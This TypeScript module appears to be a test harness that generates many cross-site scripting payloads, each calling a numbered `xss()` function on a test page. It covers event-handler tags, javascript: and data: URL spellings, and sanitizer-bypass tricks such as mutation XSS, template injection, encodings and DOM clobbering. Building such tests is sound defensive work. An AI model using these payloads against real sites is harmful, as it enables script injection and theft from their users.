/** What a payload runs when it succeeds: a function that the test page has, with the payload's number. */
type Code = string;

/** Elements that run a handler by themselves: what stands before it, its name, what ends the element. */
const handlers: readonly (readonly [before: string, event: string])[] = [
  ['img src=x', 'onerror'],
  ['svg', 'onload'],
  ['body', 'onload'],
  ['input autofocus', 'onfocus'],
  ['select autofocus', 'onfocus'],
  ['textarea autofocus', 'onfocus'],
  ['details open', 'ontoggle'],
  ['video src=x', 'onerror'],
  ['audio src=x', 'onerror'],
  ['iframe src=about:blank', 'onload'],
  ['object data=x', 'onerror'],
  ['link rel=stylesheet href=data:text/css,', 'onload'],
  ['style', 'onload'],
  ['marquee', 'onstart'],
  ['div style="animation:a 1ms" tabindex=0', 'onanimationstart'],
  ['svg><animate attributeName=x dur=1ms', 'onbegin'],
  ['p contenteditable autofocus tabindex=0', 'onfocus'],
];

/** Spellings of an element with a handler, which parsers and filters read differently. */
const spellings: readonly ((before: string, event: string, code: Code) => string)[] = [
  (before, event, code) => `<${before} ${event}="${code}">x`,
  (before, event, code) => `<${before} ${event}=${code}>x`,
  (before, event, code) => `<${before.toUpperCase()}\n${event.toUpperCase()}\t=\t'${code}'>x`,
  (before, event, code) => `<${before}/${event}=${code}//`,
  (before, event, code) => `"'><${before} ${event}=&#x78;${code.slice(1)}>x`,
  (before, event, code) => `</textarea></title></style></script><${before} ${event}=${code}>x`,
  (before, event, code) => `<!--><${before} ${event}=\`${code}\`>-->x`,
];

/** Places where an address is followed, now or by a click. */
const addressed: readonly ((address: string) => string)[] = [
  (address) => `<a href="${address}">link</a>`,
  (address) => `<a href='${address}' target=_self autofocus>link</a>`,
  (address) => `<svg><a xlink:href="${address}"><text y=9>link</text></a></svg>`,
  (address) => `<math><mtext href="${address}">link</mtext></math>`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<object data="${address}"></object>`,
  (address) => `<embed src="${address}">`,
  (address) => `<form action="${address}"><button formaction="${address}">go</button></form>`,
  (address) => `<meta http-equiv=refresh content="0;url=${address}">`,
  (address) => `<base href="${address}">`,
  (address) => `<map><area href="${address}">link</map>`,
  (address) => `[link](${address})`,
];

/** Spellings of an address that is code. */
const addresses: readonly ((code: Code) => string)[] = [
  (code) => `javascript:${code}`,
  (code) => `JaVaScRiPt:${code}`,
  (code) => `java\tscript:${code}`,
  (code) => `\u0001javascript:${code}`,
  (code) => `&#106;avascript&colon;${code}`,
  (code) => `javascript://%0a${code}`,
  (code) => `vbscript:${code}`,
  (code) => `data:text/html,<script>parent.${code}</script>`,
  (code) => `data:text/html;base64,${btoa(`<script>parent.${code}</script>`)}`,
];

/** What ends the place that it stands in, what changes when it is parsed twice, and what templates run. */
const tricks: readonly ((code: Code) => string)[] = [
  (code) => `<script>${code}</script>`,
  (code) => `<SCRIPT/x>${code}</SCRIPT>`,
  (code) => `<script src="data:text/javascript,${code}"></script>`,
  (code) => `<script type=module>${code}</script>`,
  (code) => `<scr<script>ipt>${code}</scr</script>ipt>`,
  (code) => `</script><script>${code}</script>`,
  (code) => `";${code};//`,
  (code) => `'-${code}-'`,
  (code) => `\\";${code};//`,
  (code) => `\u2028${code}//`,
  (code) => `\${${code}}`,
  (code) => `{{constructor.constructor('${code}')()}}`,
  (code) => `<iframe srcdoc="<script>parent.${code}</script>"></iframe>`,
  (code) => `<iframe srcdoc='&lt;img src=x onerror=parent.${code}&gt;'></iframe>`,
  (code) =>
    `<template><script>${code}</script></template><template shadowrootmode=open><img src=x onerror=${code}></template>`,
  (code) => `<noscript><p title="</noscript><img src=x onerror=${code}>">`,
  (code) => `<svg></p><style><a id="</style><img src=x onerror=${code}>">`,
  (code) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${code}&gt;">`,
  (code) => `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${code}>`,
  (code) => `<svg><style>&lt;img src=x onerror=${code}&gt;</style></svg>`,
  (code) => `<svg><use href="data:image/svg+xml,<svg id='x' onload='${code}'/>#x"/></svg>`,
  (code) => `<svg><foreignObject><img src=x onerror=${code}></foreignObject></svg>`,
  (code) => `<svg><set attributeName=href to=javascript:${code}></svg>`,
  (code) => `<xmp><p title="</xmp><img src=x onerror=${code}>"></xmp>`,
  (code) =>
    `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${code}>">`,
  (code) =>
    `<p style="background:url(javascript:${code});x:expression(${code});-moz-binding:url(x)">`,
  (code) => `<img src=x onerror="${code}" <p>`,
  (code) => `<img """><script>${code}</script>">`,
  (code) => `&lt;img src=x onerror=${code}&gt;`,
  (code) => `%3Cimg%20src%3Dx%20onerror%3D${code}%3E`,
  (code) => `+ADw-script+AD4-${code}+ADw-/script+AD4-`,
  (code) => `<x onclick=${code} style=position:fixed;inset:0>`,
  (code) => `<a id=config></a><form id=config><input name=textContent value="${code}"></form>`,
  (code) => `<!DOCTYPE x [<!ENTITY y "<img src=x onerror=${code}>">]>&y;`,
  (code) =>
    `<?xml-stylesheet href="javascript:${code}"?><?php echo '<img src=x onerror=${code}>' ?>`,
];

const makers: readonly ((code: Code) => string)[] = [
  ...tricks,
  ...handlers.flatMap(([before, event]) =>
    spellings.map((spelling) => (code: Code) => spelling(before, event, code)),
  ),
  ...addressed.flatMap((place) => addresses.map((address) => (code: Code) => place(address(code)))),
];

/** How many payloads there are. */
export const xssCount = makers.length;

/** All payloads for one place. Each calls `xss` with a number of its own when it runs, from `first` on. */
export const xssPayloads = (first: number): string[] =>
  makers.map((make, index) => make(`xss(${first + index})`));

/** The same, several put together, at most `length` characters each. */
export function joinedPayloads(first: number, length: number): string[] {
  const joined: string[] = [''];
  for (const payload of xssPayloads(first)) {
    const last = joined.at(-1) ?? '';
    if (last !== '' && last.length + payload.length + 1 > length) joined.push(payload);
    else joined[joined.length - 1] = last === '' ? payload : `${last} ${payload}`;
  }
  return joined;
}
